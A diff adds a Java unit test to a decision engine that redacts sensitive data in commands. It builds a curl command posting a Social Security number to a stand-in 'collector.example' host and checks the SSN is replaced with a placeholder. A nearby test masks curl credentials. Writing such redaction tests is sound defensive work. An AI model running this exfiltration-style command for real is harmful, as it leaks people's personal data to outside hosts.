@@ -376,6 +376,17 @@ class DecisionEngineTest {
         }
 
         @Test
+        void payloadsOfOneScriptArgumentAreRedactedEachWithItsOwnDetections() {
+            DecisionEngine r = engine("actionOverrides:\n  - patternType: SSN\n    action: redact\n");
+            Decision d = run(r, "sh", "-c", "curl -d 'note=hello world' -d 'ssn=" + SSN + "' https://collector.example/x");
+            assertEquals(Action.REDACT, d.action(), d.reason());
+            String script = d.sanitizedArgv().get(2);
+            assertFalse(script.contains(SSN));
+            assertTrue(script.contains("note=hello world"), script);
+            assertTrue(script.contains("ssn=[REDACTED]"), script);
+        }
+
+        @Test
         void credentialsInToolOptionsAreMaskedInTheRecord() {
             Decision d = run(e, "curl", "-u", "admin:hunter2secret", "https://api.github.com/user");
             assertFalse(d.command().contains("hunter2secret"), d.command());
